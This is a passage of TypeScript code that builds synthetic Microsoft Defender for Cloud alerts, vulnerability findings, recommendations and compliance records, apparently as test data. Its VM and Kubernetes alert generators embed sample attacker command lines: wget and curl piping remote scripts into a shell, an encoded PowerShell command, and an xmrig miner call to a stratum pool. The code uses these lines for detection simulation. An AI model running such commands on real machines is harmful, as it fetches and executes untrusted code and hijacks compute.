  { cve: 'CVE-2023-4863', packageName: 'libwebp', version: '1.3.1', fixedVersion: '1.3.2', language: '', description: 'Heap buffer overflow in libwebp allowed a remote attacker to perform an out of bounds memory write via a crafted HTML page.' },
  { cve: 'CVE-2022-22965', packageName: 'spring-beans', version: '5.3.17', fixedVersion: '5.3.18', language: 'java', description: 'A Spring MVC or Spring WebFlux application running on JDK 9+ may be vulnerable to remote code execution (RCE) via data binding.' },
];

const CVSS_BY_SEVERITY: Readonly<Record<'Low' | 'Medium' | 'High' | 'Critical', readonly number[]>> = {
  Low: [2.4, 3.1, 3.7],
  Medium: [4.3, 5.3, 5.9, 6.5],
  High: [7.1, 7.5, 8.1, 8.8],
  Critical: [9.0, 9.8, 10.0],
};

const SECURE_SCORE_CONTROLS: readonly { readonly name: string; readonly displayName: string; readonly max: number }[] = [
  { name: '1195afff-c881-495e-9bc5-1486211ae03f', displayName: 'Enable MFA', max: 10 },
  { name: '2ea2e5ac-0c3d-4a54-a5e8-1e3d7e1a2f6c', displayName: 'Secure management ports', max: 8 },
  { name: '3a8b6c2d-1f4e-4d6a-9b7c-0e2d4f6a8c1b', displayName: 'Remediate vulnerabilities', max: 6 },
  { name: '4c6e8a0b-2d4f-4b6d-8f0a-1c3e5a7c9e2d', displayName: 'Apply system updates', max: 6 },
  { name: '5e7a9c1d-3f5b-4d7f-9a1c-2e4a6c8e0f3a', displayName: 'Encrypt data in transit', max: 4 },
  { name: '6f8b0d2e-4a6c-4e8a-8b2d-3f5b7d9f1a4b', displayName: 'Restrict unauthorized network access', max: 4 },
];

const COMPLIANCE_STANDARDS: readonly { readonly standard: string; readonly controls: readonly string[] }[] = [
  { standard: 'Microsoft-cloud-security-benchmark', controls: ['LT.2', 'NS.1', 'NS.2', 'IM.1', 'PA.7', 'DP.3', 'PV.5', 'ES.2'] },
  { standard: 'PCI-DSS-4', controls: ['1.2.1', '2.2.1', '6.3.3', '8.3.1', '10.2.1', '11.3.1'] },
  { standard: 'ISO-27001-2013', controls: ['A.9.2.3', 'A.10.1.1', 'A.12.4.1', 'A.12.6.1', 'A.13.1.1'] },
  { standard: 'NIST-SP-800-53-R5', controls: ['AC-2', 'AU-6', 'CM-6', 'RA-5', 'SC-7', 'SI-2'] },
];

const LOCATIONS = ['westeurope', 'northeurope', 'centralus', 'eastus2', 'swedencentral'];
const NAMESPACES = ['payments', 'checkout', 'default', 'kube-system', 'monitoring', 'ingress-nginx', 'orders'];
const REPOSITORIES = ['checkout', 'payments-api', 'orders-worker', 'public/azureml/aifx/stable-ubuntu2004-cu117-py39-torch200', 'platform/ingress', 'frontend'];

const ALERT_SEVERITIES: readonly (readonly [Severity, number])[] = [
  ['Informational', 25],
  ['Low', 25],
  ['Medium', 30],
  ['High', 20],
];
const EVENT_HUB_ALERT_STATUSES: readonly (readonly [string, number])[] = [
  ['New', 80],
  ['Active', 8],
  ['InProgress', 4],
  ['Resolved', 5],
  ['Dismissed', 3],
];
const VULNERABILITY_SEVERITIES: readonly (readonly ['Low' | 'Medium' | 'High' | 'Critical', number])[] = [
  ['Low', 20],
  ['Medium', 35],
  ['High', 27],
  ['Critical', 18],
];

function alertTitle(entry: AlertEntry, fill: Readonly<Record<string, string>>): string {
  return entry.title.replace(/\{(\w+)\}/g, (_, key: string) => fill[key] ?? key);
}

// ------------------------------------------------------------------------------------------- valid variants

interface ValidVariant {
  readonly name: string;
  readonly weight: number;
  make(context: Context, index: number): BuiltRecord;
}

/** A resource name unique to the record: `<prefix><tag><index base 36>`. */
function uniqueName(context: Context, prefix: string, index: number): string {
  return `${prefix}${context.tag}${index.toString(36).padStart(4, '0')}`;
}

interface ClusterRef {
  readonly sub: string;
  readonly rg: string;
  readonly cluster: string;
  readonly resourceId: string;
}

function clusterOf(context: Context): ClusterRef {
  const { random } = context;
  const sub = random.pick(context.subscriptions);
  const rg = random.pick(['rg-prod-aks', 'rg-dev-aks', 'rg-shared-k8s']);
  const cluster = random.pick(['aks-prod-weu', 'aks-prod-neu', 'aks-dev-weu', 'aks-shared-cus']);
  return { sub, rg, cluster, resourceId: `/subscriptions/${sub}/resourceGroups/${rg}/providers/Microsoft.ContainerService/managedClusters/${cluster}` };
}

const alertUri = 'https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/AlertBlade/alertId/@@id@@/subscriptionId/@@sub@@/resourceGroup/@@rg@@/referencedFrom/alertDeepLink/location/@@location@@';

/** The Event Hub alert's common head and tail; `entities` and `extended` differ per family. */
function eventHubAlertShape(entities: unknown, extended: Record<string, unknown>): unknown {
  return {
    VendorName: 'Microsoft',
    AlertType: '@@alertType@@',
    ProductName: 'Microsoft Defender for Cloud',
    StartTimeUtc: '@@start@@',
    EndTimeUtc: '@@start@@',
    TimeGenerated: '@@generated@@',
    ProcessingEndTime: '@@processed@@',
    Severity: '@@severity@@',
    Status: '@@status@@',
    ProviderAlertStatus: null,
    ConfidenceLevel: null,
    ConfidenceScore: 0.0,
    ConfidenceReasons: null,
    IsIncident: false,
    SystemAlertId: '@@id@@',
    CorrelationKey: null,
    Intent: '@@intent@@',
    AzureResourceId: '@@resourceId@@',
    WorkspaceId: null,
    WorkspaceSubscriptionId: null,
    WorkspaceResourceGroup: '',
    AgentId: '',
    CompromisedEntity: '@@entity@@',
    AlertDisplayName: '@@title@@',
    Description: '@@description@@',
    Entities: entities,
    ExtendedLinks: null,
    RemediationSteps: '@@#remediation@@',
    ExtendedProperties: {
      ...extended,
      EffectiveAzureResourceId: '@@resourceId@@',
      CompromisedEntity: '@@entity@@',
      ProductComponentName: '@@component@@',
      EffectiveSubscriptionId: '@@sub@@',
    },
    ResourceIdentifiers: [
      { $id: '2', AzureResourceId: '@@resourceId@@', Type: 'AzureResource', AzureResourceTenantId: '@@tenant@@' },
      { $id: '3', AadTenantId: '@@tenant@@', Type: 'AAD' },
    ],
    AlertUri: alertUri,
  };
}

const k8sControlPlaneTemplate = lazyTemplate(() =>
  eventHubAlertShape(
    [
      {
        $id: '4',
        CloudResource: { $id: '5', ResourceId: '@@resourceId@@', ResourceType: 'Kubernetes Service', ResourceName: '@@entity@@', Metadata: { IsGraphCenter: true }, Asset: true, Type: 'azure-resource' },
        Asset: false,
        Type: 'K8s-cluster',
      },
      { $id: '6', Name: '@@namespace@@', Cluster: { $ref: '4' }, Asset: false, Type: 'K8s-namespace' },
      { $id: '7', Name: '@@user@@', Type: 'account' },
      { $ref: '5' },
    ],
    {
      'Resource type': '@@k8sResourceType@@',
      'Resource name': '@@k8sResourceName@@',
      Namespace: '@@namespace@@',
      'User name': '@@user@@',
      'Webhook configuration rules': '[{"apiGroups":[""],"resources":["pods"],"operations":["CREATE"],"apiVersions":["v1"],"scope":"Namespaced"}]',
      resourceType: 'Kubernetes Service',
    },
  ),
);

const k8sNodeTemplate = lazyTemplate(() =>
  eventHubAlertShape(
    [
      {
        $id: '4',
        CloudResource: { $id: '5', ResourceId: '@@resourceId@@', ResourceType: 'Kubernetes Service', ResourceName: '@@entity@@', Asset: true, Type: 'azure-resource' },
        Asset: false,
        Type: 'K8s-cluster',
      },
      { $id: '6', Name: '@@namespace@@', Cluster: { $ref: '4' }, Asset: false, Type: 'K8s-namespace' },
      { $id: '7', Name: '@@pod@@', Namespace: { $ref: '6' }, Asset: false, Type: 'K8s-pod' },
      { $id: '8', Name: '@@container@@', Image: { $id: '9', ImageId: '@@image@@', Type: 'container-image' }, Pod: { $ref: '7' }, Type: 'container' },
      { $id: '10', ProcessId: '@@pid@@', CommandLine: '@@commandLine@@', ImageFile: { $id: '11', Name: '@@processName@@', Directory: '/tmp/.x', Type: 'file' }, Type: 'process' },
      { $id: '12', Address: '@@ip@@', Type: 'ip' },
      { $ref: '5' },
    ],
    {
      Namespace: '@@namespace@@',
      'Pod name': '@@pod@@',
      'Container name': '@@container@@',
      'Container image': '@@image@@',
      'Suspicious process': '/tmp/.x/@@processName@@',
      'Suspicious command line': '@@commandLine@@',
      'Parent process': '/bin/sh',
      resourceType: 'Kubernetes Service',
    },
  ),
);

const vmTemplate = lazyTemplate(() =>
  eventHubAlertShape(
    [
      { $id: '4', HostName: '@@entity@@', AzureID: '@@resourceId@@', OMSAgentID: '@@agent@@', OSFamily: 'Linux', Type: 'host' },
      { $id: '5', Name: '@@user@@', Host: { $ref: '4' }, Type: 'account' },
      { $id: '6', ProcessId: '@@pid@@', CommandLine: '@@commandLine@@', Host: { $ref: '4' }, Account: { $ref: '5' }, CreationTimeUtc: '@@start@@', Type: 'process' },
      { $id: '7', Address: '@@ip@@', Location: { CountryCode: 'NL', City: 'Amsterdam', Asn: 64500 }, Type: 'ip' },
    ],
    {
      'Machine name': '@@entity@@',
      'Account name': '@@user@@',
      'Suspicious command line': '@@commandLine@@',
      'Source IP address': '@@ip@@',
      'Number of failed authentication attempts': '@@failures@@',
      resourceType: 'Virtual Machine',
    },
  ),
);

const otherAlertTemplate = lazyTemplate(() =>
  eventHubAlertShape(
    [
      { $id: '4', ResourceId: '@@resourceId@@', ResourceType: '@@resourceType@@', ResourceName: '@@entity@@', Asset: true, Type: 'azure-resource' },
      { $id: '5', Address: '@@ip@@', Type: 'ip' },
      { $id: '6', Name: '@@user@@', UPNSuffix: 'contoso.example', Type: 'account' },
    ],
    {
      'Client IP address': '@@ip@@',
      'Client principal name': '@@user@@@contoso.example',
      'Operations count': '@@failures@@',
      resourceType: '@@resourceType@@',
    },
  ),
);

function alertBase(context: Context, index: number, entry: AlertEntry, statuses = EVENT_HUB_ALERT_STATUSES): Record<string, string> & { severity: Severity; status: string } {
  const { random } = context;
  const severity = weightedValue(random, ALERT_SEVERITIES);
  const status = weightedValue(random, statuses);
  return {
    alertType: entry.alertType,
    start: timeOf(context, index, -600_000),
    generated: timeOf(context, index, -60_000),
    processed: timeOf(context, index),
    severity,
    status,
    intent: entry.intent,
    tenant: context.tenant,
    location: random.pick(LOCATIONS),
    remediation: JSON.stringify(entry.remediation),
    ip: `203.0.113.${1 + random.int(254)}`,
    user: random.pick(['masterclient', 'azureuser', 'system:serviceaccount:ci:deployer', 'alice@contoso.example', 'svc-backup']),
    pid: `0x${random.hex(4)}`,
    failures: String(5 + random.int(500)),
  };
}

function eventHubAlert(context: Context, index: number, entry: AlertEntry, template: Template, values: Record<string, string> & { severity: Severity; status: string }): BuiltRecord {
  const id = context.random.chance(0.35) ? tickedId(context, index) : uniqueGuid(context, index);
  values['id'] = id;
  values['description'] = alertTitle({ ...entry, title: entry.description }, values);
  values['title'] = alertTitle(entry, values);
  return { body: render(template, values), kind: 'alert', id, status: values.status, severity: values.severity, alertType: entry.alertType };
}

const VALID_VARIANTS: readonly ValidVariant[] = [
  {
    name: 'alert/k8s-control-plane',
    weight: 12,
    make(context, index) {
      const { random } = context;
      const entry = random.weighted(K8S_CONTROL_PLANE_ALERTS);
      const cluster = clusterOf(context);
      const values = alertBase(context, index, entry);
      Object.assign(values, {
        sub: cluster.sub,
        rg: cluster.rg,
        resourceId: cluster.resourceId,
        entity: cluster.cluster,
        component: 'Containers',
        namespace: random.pick(NAMESPACES),
        k8sResourceType: random.pick(['mutatingwebhookconfigurations', 'clusterrolebindings', 'pods', 'services']),
        k8sResourceName: `${random.pick(['opentelemetry-operator-mutation', 'ci-deployer-binding', 'kubernetes-dashboard', 'node-exporter'])}-${random.hex(5)}`,
      });
      return eventHubAlert(context, index, entry, k8sControlPlaneTemplate(), values);
    },
  },
  {
    name: 'alert/k8s-node',
    weight: 10,
    make(context, index) {
      const { random } = context;
      const entry = random.weighted(K8S_NODE_ALERTS);
      const cluster = clusterOf(context);
      const values = alertBase(context, index, entry);
      const repository = random.pick(REPOSITORIES);
      const processName = random.pick(['xmrig', 'kdevtmpfsi', 'sh', 'nc', 'curl']);
      Object.assign(values, {
        sub: cluster.sub,
        rg: cluster.rg,
        resourceId: cluster.resourceId,
        entity: cluster.cluster,
        component: 'Containers',
        namespace: random.pick(NAMESPACES),
        pod: `${repository.split('/').pop() ?? 'app'}-${random.hex(9)}-${random.hex(5)}`,
        container: random.pick(['worker', 'app', 'sidecar', 'main']),
        image: `contosoprod.azurecr.io/${repository}:${1 + random.int(3)}.${random.int(20)}.${random.int(10)}`,
        processName,
        commandLine: `/tmp/.x/${processName} -o stratum+tcp://${values['ip'] ?? '203.0.113.7'}:3333 --donate-level 1`,
      });
      return eventHubAlert(context, index, entry, k8sNodeTemplate(), values);
    },
  },
  {
    name: 'alert/vm',
    weight: 8,
    make(context, index) {
      const { random } = context;
      const entry = random.weighted(VM_ALERTS);
      const values = alertBase(context, index, entry);
      const sub = random.pick(context.subscriptions);
      const rg = random.pick(['rg-prod-compute', 'rg-dev-compute', 'rg-jumpbox']);
      const vm = uniqueName(context, 'vm-web-', index);
      // Defender sometimes upper-cases AzureResourceId.
      const resourceId = `/subscriptions/${sub}/resourceGroups/${rg}/providers/Microsoft.Compute/virtualMachines/${vm}`;
      Object.assign(values, {
        sub,
        rg,
        resourceId: random.chance(0.15) ? resourceId.toUpperCase() : resourceId,
        entity: vm,
        component: 'Servers',
        agent: randomGuid(random),
        commandLine: random.pick(['wget -q http://198.51.100.23/x.sh -O- | sh', 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', 'sshd: azureuser [priv]', 'curl -s http://198.51.100.9/k | bash']),
      });
      return eventHubAlert(context, index, entry, vmTemplate(), values);
    },
  },
  {
    name: 'alert/other',
    weight: 5,
    make(context, index) {
      const { random } = context;
      const entry = random.weighted(OTHER_ALERTS);
      const values = alertBase(context, index, entry);
      const sub = random.pick(context.subscriptions);
      const family = entry.alertType.split(/[._]/)[0] ?? '';
      const kind =
        family === 'SQL'
          ? { provider: 'Microsoft.Sql/servers', prefix: 'sql-prod-', type: 'SQL Server', component: 'Databases' }
          : family === 'Storage'
            ? { provider: 'Microsoft.Storage/storageAccounts', prefix: 'stprod', type: 'Storage', component: 'Storage' }
            : family === 'KV'
              ? { provider: 'Microsoft.KeyVault/vaults', prefix: 'kv-prod-', type: 'Key Vault', component: 'KeyVaults' }
              : family === 'AppServices'
                ? { provider: 'Microsoft.Web/sites', prefix: 'app-prod-', type: 'App Service', component: 'AppServices' }
                : { provider: 'Microsoft.Resources/subscriptions', prefix: 'sub-', type: 'Subscription', component: 'Arm' };
      const rg = random.pick(['rg-prod-data', 'rg-prod-web', 'rg-shared']);
      const name = uniqueName(context, kind.prefix, index);
      Object.assign(values, {
        sub,
        rg,
        resourceId: `/subscriptions/${sub}/resourceGroups/${rg}/providers/${kind.provider}/${name}`,
        entity: name,
        component: kind.component,
        resourceType: kind.type,
      });
      return eventHubAlert(context, index, entry, otherAlertTemplate(), values);
    },
  },
  {
    name: 'alert/rest',
    weight: 3,
    make(context, index) {
      const { random } = context;
      const entry = random.weighted(VM_ALERTS);
      const values = alertBase(context, index, entry, [
        ['Active', 70],
        ['InProgress', 10],
        ['Resolved', 15],
        ['Dismissed', 5],
      ]);
      const id = tickedId(context, index);
      const sub = random.pick(context.subscriptions);
      const rg = random.pick(['rg-prod-compute', 'myRg1']);
      const vm = uniqueName(context, 'vm', index);
      Object.assign(values, {
        id,
        sub,
        rg,
        vm,
        title: entry.title,
        description: entry.description,
        resourceId: `/subscriptions/${sub}/resourceGroups/${rg}/providers/Microsoft.Compute/virtualMachines/${vm}`,
        workspace: randomGuid(random),
        agent: randomGuid(random),
      });
      return { body: render(restAlertTemplate(), values), kind: 'alert', id, status: values.status, severity: values.severity, alertType: entry.alertType };
    },
  },
  {
    name: 'alert/activity-log',
    weight: 2,
    make(context, index) {
      const { random } = context;
      const entry = random.weighted(K8S_CONTROL_PLANE_ALERTS);
      const values = alertBase(context, index, entry, [['Active', 1]]);
      const id = tickedId(context, index).toLowerCase();
      const sub = random.pick(context.subscriptions);
      Object.assign(values, {
        id,
        sub,
        rg: random.pick(['rg-prod-aks', 'rg-dev-aks']),
        title: `PREVIEW - ${entry.title}`,
        description: `PREVIEW - ${entry.title}. ${entry.description}`,
        ticks: `63${random.digits(16)}`,
        level: random.pick(['Informational', 'Warning']),
        intent: JSON.stringify(entry.intent.split(', ')),
        remediation: JSON.stringify(entry.remediation),
        entity: random.pick(['ASC-IGNITE-DEMO', 'aks-prod-weu', 'aks-dev-weu']),
      });
      // The Activity Log route has no alert type.
      return { body: render(activityLogAlertTemplate(), values), kind: 'alert', id, status: 'Active', severity: values.severity };
    },
  },
  {
    name: 'recommendation/insert',
    weight: 17,
    make: (context, index) => recommendation(context, index, false),
  },
  {
    name: 'recommendation/legacy-envelope',
    weight: 3,
    make: (context, index) => recommendation(context, index, true),
  },
  {
    name: 'finding/acr-image',
    weight: 9,
    make: (context, index) => imageFinding(context, index, 'acr'),
  },
  {
    name: 'finding/acr-image-pascalcase',
    weight: 3,
    make: (context, index) => imageFinding(context, index, 'pascal'),
  },
  {
    name: 'finding/ecr-image-resource-graph',
    weight: 3,
    make: (context, index) => imageFinding(context, index, 'ecr'),
  },
  {
    name: 'finding/runtime-image',
    weight: 4,
    make: (context, index) => imageFinding(context, index, 'runtime'),
  },
  {
    name: 'finding/server-tvm',
    weight: 4,
    make(context, index) {
      const { random } = context;
      const cve = random.pick(CVES);
      const severity = weightedValue<'Low' | 'Medium' | 'High' | 'Unknown'>(random, [
        ['Low', 30],
        ['Medium', 40],
        ['High', 27],
        ['Unknown', 3],
      ]);
      const status = weightedValue(random, FINDING_STATUSES);
      const sub = random.pick(context.subscriptions);
      const rg = random.pick(['rg-prod-compute', 'rg-dev-compute']);
      const vm = uniqueName(context, 'vm-db-', index);
      const resourceId = `/subscriptions/${sub}/resourceGroups/${rg}/providers/Microsoft.Compute/virtualMachines/${vm}`;
      const name = uniqueGuid(context, index);
      const id = `${resourceId}/providers/Microsoft.Security/assessments/1195afff-c881-495e-9bc5-1486211ae03f/subAssessments/${name}`;
      const values = withFindingEnvelope(context, status, {
        id,
        name,
        resourceId,
        cve: cve.cve,
        title: `${cve.packageName} ${cve.version}: ${cve.cve}`,
        description: cve.description,
        statusCode: status,
        statusSeverity: severity,
        generated: timeOf(context, index),
        cvss: String(random.pick(CVSS_BY_SEVERITY[severity === 'Unknown' ? 'Medium' : severity])),
        packageName: cve.packageName,
        version: cve.version,
        fixedVersion: cve.fixedVersion || 'none',
        firstSeen: timeOf(context, index, -86_400_000 * (1 + random.int(60))),
      });
      return { body: render(serverFindingTemplate(), values), kind: 'finding', id, status, severity };
    },
  },
  {
    name: 'finding/sql-va',
    weight: 2,
    make(context, index) {
      const { random } = context;
      const severity = weightedValue<Severity>(random, [
        ['Low', 30],
        ['Medium', 40],
        ['High', 30],
      ]);
      const status = weightedValue(random, FINDING_STATUSES);
      const sub = random.pick(context.subscriptions);
      const server = uniqueName(context, 'sql-prod-', index);
      const serverId = `/subscriptions/${sub}/resourceGroups/rg-prod-data/providers/Microsoft.Sql/servers/${server}`;
      const name = uniqueGuid(context, index);
      const id = `${serverId}/providers/Microsoft.Security/assessments/82e20e14-edc5-4373-bfc4-f13121257c37/subassessments/${name}`;
      const rule = random.pick([
        ['VA2064', 'Database-level firewall rules should be tracked and maintained at a strict minimum'],
        ['VA1258', 'Database owners are as expected'],
        ['VA2109', 'Minimal set of principals should be members of fixed low impact database roles'],
        ['VA1143', "'dbo' user should not be used for normal service operation"],
      ] as const);
      const values = withFindingEnvelope(context, status, {
        id,
        name,
        rule: rule[0],
        title: rule[1],
        statusCode: status,
        statusSeverity: severity,
        generated: timeOf(context, index),
        databaseId: `${serverId}/databases/${random.pick(['orders', 'payments', 'master', 'inventory'])}`,
      });
      return { body: render(sqlFindingTemplate(), values), kind: 'finding', id, status, severity };
    },
  },
  {
    name: 'secureScore',
    weight: 3,
    make(context, index) {
      const { random } = context;
      // One subscription per record, so that every secure score has its own identity.
      const sub = uniqueGuid(context, index);
      const id = `/subscriptions/${sub}/providers/Microsoft.Security/secureScores/ascScore`;
      const max = 58;
      const current = Math.round(random.next() * max * 100) / 100;
      const values = {
        id,
        tenant: context.tenant,
        snapshot: String(random.chance(0.3)),
        max: String(max),
        current: String(current),
        percentage: String(Math.round((current / max) * 10_000) / 10_000),
        weight: String(10 + random.int(90)),
        generated: timeOf(context, index),
      };
      return { body: render(secureScoreTemplate(), values), kind: 'secureScore', id, status: '', severity: 'Unknown' };
    },
  },
  {
    name: 'secureScoreControl',
    weight: 5,
    make(context, index) {
      const { random } = context;
      const control = random.pick(SECURE_SCORE_CONTROLS);
      const sub = uniqueGuid(context, index);
      const id = `/subscriptions/${sub}/providers/Microsoft.Security/secureScores/ascScore/secureScoreControls/${control.name}`;
      const healthy = random.int(40);
      const unhealthy = random.int(12);
      const current = unhealthy === 0 ? control.max : Math.round((control.max * healthy * 100) / (healthy + unhealthy)) / 100;
      const values = {
        id,
        name: control.name,
        tenant: context.tenant,
        snapshot: String(random.chance(0.5)),
        displayName: control.displayName,
        healthy: String(healthy),
        unhealthy: String(unhealthy),
        notApplicable: String(random.int(5)),
        max: String(control.max),
        current: String(current),
        percentage: String(Math.round((current / control.max) * 10_000) / 10_000),
        weight: String(1 + random.int(10)),
        generated: timeOf(context, index),
      };
      return { body: render(secureScoreControlTemplate(), values), kind: 'secureScoreControl', id, status: '', severity: 'Unknown' };
    },
  },
  {
    name: 'regulatoryCompliance',
    weight: 7,
    make(context, index) {
      const { random } = context;
      const standard = random.pick(COMPLIANCE_STANDARDS);
      const control = random.pick(standard.controls);
      const assessment = random.pick(ASSESSMENTS);
      const sub = random.pick(context.subscriptions);
      const name = uniqueGuid(context, index);
      const id = `/subscriptions/${sub}/providers/Microsoft.Security/regulatoryComplianceStandards/${standard.standard}/regulatoryComplianceControls/${control}/regulatoryComplianceAssessments/${name}`;
      const state = weightedValue(random, [
        ['Passed', 55],
        ['Failed', 30],
        ['Skipped', 10],
        ['Unsupported', 5],
      ]);
      const failed = state === 'Failed' ? 1 + random.int(20) : 0;
      const values = {
        id,
        name,
        description: assessment.title,
        state,
        passed: String(random.int(50)),
        failed: String(failed),
        skipped: String(state === 'Skipped' ? 1 + random.int(5) : 0),
        key: assessment.key,
        standard: standard.standard,
        snapshot: String(random.chance(0.3)),
        generated: timeOf(context, index),
      };
      return { body: render(complianceTemplate(), values), kind: 'regulatoryCompliance', id, status: state, severity: 'Unknown' };
    },
  },
];

const restAlertTemplate = lazyTemplate(() => ({
  id: '/subscriptions/@@sub@@/resourceGroups/@@rg@@/providers/Microsoft.Security/locations/@@location@@/alerts/@@id@@',
  name: '@@id@@',
  type: 'Microsoft.Security/Locations/alerts',
  properties: {
    version: '2022-01-01',
    alertType: '@@alertType@@',
    systemAlertId: '@@id@@',
    productComponentName: 'Servers',
    alertDisplayName: '@@title@@',
    description: '@@description@@',
    severity: '@@severity@@',
    intent: '@@intent@@',
    startTimeUtc: '@@start@@',
    endTimeUtc: '@@start@@',
    resourceIdentifiers: [
      { azureResourceId: '@@resourceId@@', type: 'AzureResource' },
      { workspaceId: '@@workspace@@', workspaceSubscriptionId: '@@sub@@', workspaceResourceGroup: '@@rg@@', agentId: '@@agent@@', type: 'LogAnalytics' },
    ],
    remediationSteps: '@@#remediation@@',
    vendorName: 'Microsoft',
    status: '@@status@@',
    extendedLinks: [{ Category: 'threat_reports', Label: 'Report: RDP Brute Forcing', Href: 'https://contoso.example/reports/DisplayReport', Type: 'webLink' }],
    alertUri:
      'https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/@@id@@/subscriptionId/@@sub@@/resourceGroup/@@rg@@/referencedFrom/alertDeepLink/location/@@location@@',
    timeGeneratedUtc: '@@generated@@',
    productName: 'Microsoft Defender for Cloud',
    processingEndTimeUtc: '@@processed@@',
    entities: [
      { address: '@@ip@@', location: { countryCode: 'gb', state: 'wokingham', city: 'sonning', longitude: -0.909, latitude: 51.468, asn: 6584 }, type: 'ip' },
      { hostName: '@@vm@@', azureID: '@@resourceId@@', type: 'host' },
    ],
    isIncident: false,
    correlationKey: 'kso0LFWxzCll5tqrk5hmrBJ+MY1BX806W6q6+0s9Lk=',
    extendedProperties: { 'Source IP address': '@@ip@@', 'Account name': '@@user@@' },
    compromisedEntity: '@@vm@@',
    techniques: ['T1059', 'T1053', 'T1072'],
    subTechniques: ['T1059.001', 'T1059.006', 'T1053.002'],
  },
}));

const activityLogAlertTemplate = lazyTemplate(() => ({
  channels: 'Operation',
  correlationId: '@@id@@',
  description: '@@description@@',
  eventDataId: '@@id@@',
  eventName: { value: '@@title@@', localizedValue: '@@title@@' },
  category: { value: 'Security', localizedValue: 'Security' },
  eventTimestamp: '@@start@@',
  id: '/subscriptions/@@sub@@/resourceGroups/@@rg@@/providers/Microsoft.Security/locations/@@location@@/alerts/@@id@@/events/@@id@@/ticks/@@ticks@@',
  level: '@@level@@',
  operationId: '@@id@@',
  operationName: { value: 'Microsoft.Security/locations/alerts/activate/action', localizedValue: 'Activate Alert' },
  resourceGroupName: '@@rg@@',
  resourceProviderName: { value: 'Microsoft.Security', localizedValue: 'Microsoft.Security' },
  resourceType: { value: 'Microsoft.Security/locations/alerts', localizedValue: 'Microsoft.Security/locations/alerts' },
  resourceId: '/subscriptions/@@sub@@/resourceGroups/@@rg@@/providers/Microsoft.Security/locations/@@location@@/alerts/@@id@@',
  status: { value: 'Active', localizedValue: 'Active' },
  subStatus: { value: '', localizedValue: '' },
  submissionTimestamp: '@@processed@@',
  subscriptionId: '@@sub@@',
  properties: {
    clusterRoleBindingName: 'cluster-admin-binding',
    subjectName: 'for-binding-test',
    subjectKind: 'ServiceAccount',
    username: '@@user@@',
    actionTaken: 'Detected',
    resourceType: 'Kubernetes Service',
    severity: '@@severity@@',
    intent: '@@intent@@',
    compromisedEntity: '@@entity@@',
    remediationSteps: '@@remediation@@',
    attackedResourceType: 'Kubernetes Service',
  },
  relatedEvents: [],
}));

// ---------------------------------------------------------------------------------- recommendations

const RECOMMENDATION_STATUSES: readonly (readonly [string, number])[] = [
  ['Unhealthy', 45],
  ['Healthy', 40],
  ['NotApplicable', 15],
];

const STATUS_DETAILS: Readonly<Record<string, readonly [string, string]>> = {
  Unhealthy: ['', 'The resource is unhealthy'],
  Healthy: ['', 'The resource is healthy'],
  NotApplicable: ['UnsupportedPricingPlan', 'The subscription is not onboarded to Servers Plan 2 offering'],
};

const recommendationTemplate = lazyTemplate(() => ({
  assessmentEventDataEnrichment: { action: '@@action@@', apiVersion: '2019-01-01', isSnapshot: '@@#snapshot@@' },
  securityEventDataEnrichment: { action: '@@action@@', apiVersion: '2019-01-01', isSnapshot: '@@#snapshot@@' },
  tenantId: '@@tenant@@',
  type: 'Microsoft.Security/assessments',
  kind: null,
  location: null,
  id: '@@id@@',
  name: '@@key@@',
  tags: null,
  properties: {
    resourceDetails: {
      source: 'Azure',
      id: '@@resourceId@@',
      resourceName: '@@resourceName@@',
      resourceType: '@@resourceType@@',
      resourceProvider: '@@resourceProvider@@',
      nativeResourceId: '@@resourceId@@',
    },
    displayName: '@@title@@',
    status: { code: '@@status@@', cause: '@@cause@@', description: '@@statusDescription@@', statusChangeDate: '@@changed@@', firstEvaluationDate: '@@firstEvaluated@@' },
    additionalData: { subAssessmentsLink: '@@id@@/subAssessments' },
    metadata: {
      displayName: '@@title@@',
      assessmentType: 'BuiltIn',
      policyDefinitionId: '/providers/Microsoft.Authorization/policyDefinitions/@@policy@@',
      description: '@@description@@',
      remediationDescription: '@@remediation@@',
      categories: ['@@category@@'],
      severity: '@@severity@@',
      userImpact: '@@impact@@',
      implementationEffort: '@@effort@@',
      threats: '@@#threats@@',
    },
    links: { azurePortal: 'portal.azure.com/#blade/Microsoft_Azure_Security/RecommendationsBlade/assessmentKey/@@key@@/resourceId/@@resourceIdEncoded@@' },
  },
}));

/** The 2019 export: PascalCase `AssessmentEventDataEnrichment {Action, ApiVersion}`, no snapshot flag. */
const legacyRecommendationTemplate = lazyTemplate(() => ({
  AssessmentEventDataEnrichment: { Action: '@@action@@', ApiVersion: '2019-01-01' },
  id: '@@id@@',
  name: '@@key@@',
  type: 'Microsoft.Security/assessments',
  properties: {
    resourceDetails: { source: 'Azure', id: '@@resourceId@@' },
    displayName: '@@title@@',
    status: { code: '@@status@@', cause: 'N/A', description: 'N/A' },
    additionalData: { usersWithNoMfaObjectIdList: ['@@user1@@', '@@user2@@'] },
    metadata: {
      displayName: '@@title@@',
      assessmentType: 'BuiltIn',
      policyDefinitionId: '/providers/Microsoft.Authorization/policyDefinitions/@@policy@@',
      description: '@@description@@',
      remediationDescription: 'N/A',
      severity: '@@severity@@',
    },
    links: { azurePortal: 'https://ms.portal.azure.com/?fea#blade/Microsoft_Azure_Security/RecommendationsBlade/assessmentKey/@@key@@' },
  },
}));

const policies = new Map<string, string>();

/** The policy definition behind an assessment: one per assessment key, as in Azure. */
function policyOf(key: string): string {
  let policy = policies.get(key);
  if (policy === undefined) {
    policy = randomGuid(new Random(hashString(key)));
    policies.set(key, policy);
  }
  return policy;
}

function recommendation(context: Context, index: number, legacy: boolean): BuiltRecord {
  const { random } = context;
  const entry = random.weighted(ASSESSMENTS);
  const resource = RESOURCE_KINDS[entry.resource];
  const sub = random.pick(context.subscriptions);
  const resourceName = uniqueName(context, resource.prefix, index);
  const resourceId = `/subscriptions/${sub}/resourceGroups/${resource.rg}/providers/${resource.provider}/${resource.type}/${resourceName}`;
  const id = `${resourceId}/providers/Microsoft.Security/assessments/${entry.key}`;
  const status = weightedValue(random, RECOMMENDATION_STATUSES);
  const [cause, statusDescription] = STATUS_DETAILS[status] ?? ['', ''];
  const values = {
    action: status === 'NotApplicable' && random.chance(0.3) ? 'Delete' : 'Insert',
    snapshot: String(random.chance(0.25)),
    tenant: context.tenant,
    id,
    key: entry.key,
    resourceId,
    resourceName,
    resourceType: resource.type,
